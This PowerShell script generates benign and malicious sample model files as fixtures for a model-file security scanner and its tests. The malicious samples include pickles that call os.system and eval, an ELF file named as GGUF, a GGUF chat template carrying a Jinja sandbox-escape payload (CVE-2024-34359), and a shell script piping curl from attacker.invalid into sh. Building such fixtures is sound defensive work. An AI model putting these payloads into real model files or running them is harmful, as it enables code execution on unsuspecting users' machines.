#Requires -Version 7.4
<#
.SYNOPSIS
    Writes a small folder of sample model files, benign and malicious, for the Audit task and the tests.

.DESCRIPTION
    Every file is made here from bytes; nothing is downloaded. The malicious samples are inert data:
    nothing ever loads them, and ModelSecurity never executes anything. They look the way real
    attacks look on disk:
      benign/pytorch_model.bin           a PyTorch zip checkpoint: a state dict with one tensor, as torch.save writes it
      malicious/pytorch_model.bin        a protocol-0 pickle that calls os.system when unpickled
      malicious/vectors.safetensors      a protocol-4 pickle (builtins.eval) named as SafeTensors
      malicious/qwen2.5-7b-instruct.gguf a native ELF executable named as a GGUF model
      malicious/setup-model.sh           a shell script among the models
      malicious/llama-3-8b-instruct.Q4_K_M.gguf
                                         a GGUF whose chat template escapes the Jinja sandbox (CVE-2024-34359)
#>
[CmdletBinding()]
param([Parameter(Mandatory)][string] $Path)

$ErrorActionPreference = 'Stop'

function New-ByteWriter {
    $stream = [IO.MemoryStream]::new()
    return [IO.BinaryWriter]::new($stream, [Text.Encoding]::UTF8)
}

function Write-GgufString([IO.BinaryWriter] $Writer, [string] $Value) {
    $bytes = [Text.Encoding]::UTF8.GetBytes($Value)
    $Writer.Write([uint64]$bytes.Length)
    $Writer.Write($bytes)
}

function New-GgufBytes {
    # GGUF v3: string KVs (and a chat template when given), the alignment, one 32x2 F32 tensor at
    # offset 0 of the aligned data.
    param([string] $Name = 'TinyLlama 1.1B Chat sample', [string] $ChatTemplate)
    $w = New-ByteWriter
    $w.Write([Text.Encoding]::ASCII.GetBytes('GGUF'))
    $w.Write([uint32]3)
    $w.Write([uint64]1)
    $w.Write([uint64]$(if ($ChatTemplate) { 4 } else { 3 }))
    Write-GgufString $w 'general.architecture'; $w.Write([uint32]8); Write-GgufString $w 'llama'
    Write-GgufString $w 'general.name'; $w.Write([uint32]8); Write-GgufString $w $Name
    Write-GgufString $w 'general.alignment'; $w.Write([uint32]4); $w.Write([uint32]32)
    if ($ChatTemplate) {
        Write-GgufString $w 'tokenizer.chat_template'; $w.Write([uint32]8); Write-GgufString $w $ChatTemplate
    }
    Write-GgufString $w 'token_embd.weight'
    $w.Write([uint32]2); $w.Write([uint64]32); $w.Write([uint64]2); $w.Write([uint32]0); $w.Write([uint64]0)
    while ($w.BaseStream.Length % 32) { $w.Write([byte]0) }
    $w.Write([byte[]]::new(32 * 2 * 4))
    return $w.BaseStream.ToArray()
}

function New-SafeTensorsBytes {
    $header = '{"weight":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},"__metadata__":{"format":"pt"}}'
    while (($header.Length % 8) -ne 0) { $header += ' ' }
    $w = New-ByteWriter
    $w.Write([uint64]$header.Length)
    $w.Write([Text.Encoding]::ASCII.GetBytes($header))
    $w.Write([byte[]]::new(16))
    return $w.BaseStream.ToArray()
}

function New-NpyBytes {
    $header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
    $total = 10 + $header.Length + 1
    $header = $header + (' ' * ((64 - ($total % 64)) % 64)) + "`n"
    $w = New-ByteWriter
    $w.Write([byte[]](0x93, 0x4E, 0x55, 0x4D, 0x50, 0x59, 1, 0))
    $w.Write([uint16]$header.Length)
    $w.Write([Text.Encoding]::ASCII.GetBytes($header))
    $w.Write([byte[]]::new(16))
    return $w.BaseStream.ToArray()
}

function New-Protocol4EvalPickle {
    # PROTO 4, SHORT_BINUNICODE 'builtins', SHORT_BINUNICODE 'eval', STACK_GLOBAL,
    # SHORT_BINUNICODE "print('pwned')", TUPLE1, REDUCE, STOP.
    $w = New-ByteWriter
    $w.Write([byte[]](0x80, 0x04))
    foreach ($s in 'builtins', 'eval') {
        $w.Write([byte]0x8C); $w.Write([byte]$s.Length); $w.Write([Text.Encoding]::ASCII.GetBytes($s))
    }
    $w.Write([byte]0x93)
    $code = "print('pwned')"
    $w.Write([byte]0x8C); $w.Write([byte]$code.Length); $w.Write([Text.Encoding]::ASCII.GetBytes($code))
    $w.Write([byte[]](0x85, 0x52, 0x2E))
    return $w.BaseStream.ToArray()
}

function New-StateDictPickle {
    # Protocol 2, as torch.save writes data.pkl: OrderedDict(weight = torch._utils._rebuild_tensor_v2(
    # <storage 'storage', torch.FloatStorage, '0', 'cpu', 4>, 0, (4,), (1,), False, OrderedDict())).
    $w = New-ByteWriter
    $ascii = [Text.Encoding]::ASCII
    $global = { param($module, $name) $w.Write([byte]0x63); $w.Write($ascii.GetBytes("$module`n$name`n")) }
    $text = { param($value) $bytes = $ascii.GetBytes($value); $w.Write([byte]0x58); $w.Write([uint32]$bytes.Length); $w.Write($bytes) }
    $int = { param([int] $value) $w.Write([byte]0x4A); $w.Write($value) }
    $w.Write([byte[]](0x80, 0x02))
    & $global 'collections' 'OrderedDict'; $w.Write([byte[]](0x29, 0x52))
    & $text 'weight'
    & $global 'torch._utils' '_rebuild_tensor_v2'
    $w.Write([byte]0x28)
    $w.Write([byte]0x28); & $text 'storage'; & $global 'torch' 'FloatStorage'; & $text '0'; & $text 'cpu'; & $int 4; $w.Write([byte[]](0x74, 0x51))
    & $int 0; & $int 4; $w.Write([byte]0x85); & $int 1; $w.Write([byte]0x85); $w.Write([byte]0x89)
    & $global 'collections' 'OrderedDict'; $w.Write([byte[]](0x29, 0x52))
    $w.Write([byte[]](0x74, 0x52, 0x73, 0x2E))
    return $w.BaseStream.ToArray()
}

function New-TorchZipBytes {
    # The records torch.save writes under the archive's folder; the storage holds four float32 values.
    $buffer = [IO.MemoryStream]::new()
    $zip = [IO.Compression.ZipArchive]::new($buffer, [IO.Compression.ZipArchiveMode]::Create, $true)
    $records = [ordered]@{
        'pytorch_model/data.pkl'               = New-StateDictPickle
        'pytorch_model/.format_version'        = [Text.Encoding]::ASCII.GetBytes('1')
        'pytorch_model/byteorder'              = [Text.Encoding]::ASCII.GetBytes('little')
        'pytorch_model/data/0'                 = [byte[]]::new(16)
        'pytorch_model/version'                = [Text.Encoding]::ASCII.GetBytes("3`n")
        'pytorch_model/.data/serialization_id' = [Text.Encoding]::ASCII.GetBytes('0123456789012345678901234567890123456789')
    }
    foreach ($name in $records.Keys) {
        $entry = $zip.CreateEntry($name, [IO.Compression.CompressionLevel]::NoCompression)
        $stream = $entry.Open()
        $stream.Write($records[$name], 0, $records[$name].Length)
        $stream.Dispose()
    }
    $zip.Dispose()
    return $buffer.ToArray()
}

function New-ElfBytes {
    # A minimal ELF64 x86-64 executable header (e_type = ET_EXEC), padded to 128 bytes.
    $bytes = [byte[]]::new(128)
    ([byte[]](0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0)).CopyTo($bytes, 0)
    $bytes[16] = 2; $bytes[18] = 0x3E; $bytes[20] = 1
    return $bytes
}

$benign = Join-Path $Path 'benign'
$malicious = Join-Path $Path 'malicious'
if (Test-Path -LiteralPath $Path) {
    Remove-Item -LiteralPath $Path -Recurse -Force
}
New-Item -ItemType Directory -Path $benign, $malicious -Force | Out-Null

[IO.File]::WriteAllBytes((Join-Path $benign 'tinyllama-1.1b-chat.Q4_K_M.gguf'), (New-GgufBytes))
[IO.File]::WriteAllBytes((Join-Path $benign 'model.safetensors'), (New-SafeTensorsBytes))
[IO.File]::WriteAllBytes((Join-Path $benign 'embeddings.npy'), (New-NpyBytes))
[IO.File]::WriteAllBytes((Join-Path $benign 'pytorch_model.bin'), (New-TorchZipBytes))
[IO.File]::WriteAllText((Join-Path $benign 'config.json'), '{"architectures":["LlamaForCausalLM"],"model_type":"llama","torch_dtype":"float16"}')

[IO.File]::WriteAllBytes((Join-Path $malicious 'pytorch_model.bin'), [Text.Encoding]::ASCII.GetBytes("cos`nsystem`n(S'echo pwned'`ntR."))
[IO.File]::WriteAllBytes((Join-Path $malicious 'vectors.safetensors'), (New-Protocol4EvalPickle))
[IO.File]::WriteAllBytes((Join-Path $malicious 'qwen2.5-7b-instruct.gguf'), (New-ElfBytes))
$escape = "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"
[IO.File]::WriteAllBytes((Join-Path $malicious 'llama-3-8b-instruct.Q4_K_M.gguf'), (New-GgufBytes -Name 'Llama 3 8B Instruct' -ChatTemplate $escape))
[IO.File]::WriteAllText((Join-Path $malicious 'setup-model.sh'), "#!/bin/sh`ncurl -s http://attacker.invalid/x | sh`n")

Get-ChildItem -LiteralPath $Path -Recurse -File
